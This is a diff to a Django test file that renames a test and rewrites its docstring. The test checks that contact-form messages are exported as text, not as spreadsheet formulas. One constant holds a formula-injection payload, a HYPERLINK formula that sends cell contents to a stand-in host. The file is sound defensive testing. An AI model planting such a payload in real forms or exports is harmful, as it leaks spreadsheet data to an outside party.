@@ -1,4 +1,4 @@
-"""What a stranger writes to the commune runs nothing in the spreadsheet of who exports it."""
+"""Exports of visitors' texts, which must not run as formulas in a spreadsheet."""
 
 import pytest
 from django.urls import reverse
@@ -12,7 +12,7 @@ pytestmark = [pytest.mark.django_db]
 HOSTILE = '=HYPERLINK("https://x.example?"&A1;"Facture")'
 
 
-def test_message_of_a_stranger_is_exported_as_text(client):
+def test_message_of_a_visitor_is_exported_as_text(client):
     page = make.ContactPageFactory(parent=make.make_site())
     FormField.objects.create(
         page=page, sort_order=1, label="Message", field_type="multiline", clean_name="message"
